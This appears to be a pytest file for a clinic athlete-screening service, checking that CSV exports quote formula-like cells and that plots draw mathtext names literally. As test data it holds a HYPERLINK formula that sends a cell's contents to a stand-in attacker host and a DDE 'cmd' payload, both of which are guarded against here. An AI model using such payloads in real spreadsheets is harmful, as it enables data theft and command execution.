"""Stored text stays text in exports and plots (issue 18): a CSV cell a spreadsheet would run as a
formula is neutralised (numbers stay numbers), and a name with mathtext in it draws as written."""

from __future__ import annotations

import csv
import io

import pytest

from clinic_support import API, register
from formcheck.outputs.tables import spreadsheet_safe

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
def test_formula_like_text_is_quoted(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-3.2, "-3.2", "+4", 7, "", "Sam", "left", None])
def test_numbers_and_plain_text_are_kept(value):
    assert spreadsheet_safe(value) == value


def test_metrics_csv_neutralises_an_athlete_named_like_a_formula(client):
    auth = register(client, "a@clinic.test")
    athlete = client.post(f"{API}/athletes", headers=auth, json={
        "name": FORMULA_NAME, "leg_length_left_cm": 90.0, "leg_length_right_cm": 90.0}).json()
    screening = client.post(f"{API}/athletes/{athlete['id']}/screenings", headers=auth,
                            json={"date": "2025-02-01"}).json()
    test = client.post(f"{API}/screenings/{screening['id']}/tests", headers=auth,
                       json={"kind": "msebt", "leg": "left", "direction": "anterior"}).json()
    client.put(f"{API}/tests/{test['id']}/manual-trials", headers=auth, json=[{"trial": 1, "reach_cm": 60.5}])
    r = client.get(f"{API}/screenings/{screening['id']}/metrics.csv", headers=auth)
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {row["athlete"] for row in rows} == {"'" + FORMULA_NAME}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
    reach = next(row for row in rows if row["metric"] == "reach_cm")
    assert reach["value"] == "60.5"  # numbers are written as they are


def test_history_plot_of_an_athlete_named_with_mathtext(client):
    auth = register(client, "a@clinic.test")
    athlete = client.post(f"{API}/athletes", headers=auth, json={"name": "$x^{$"}).json()
    r = client.get(f"{API}/athletes/{athlete['id']}/history.png", headers=auth)
    assert r.status_code == 200 and r.content.startswith(b"\x89PNG")
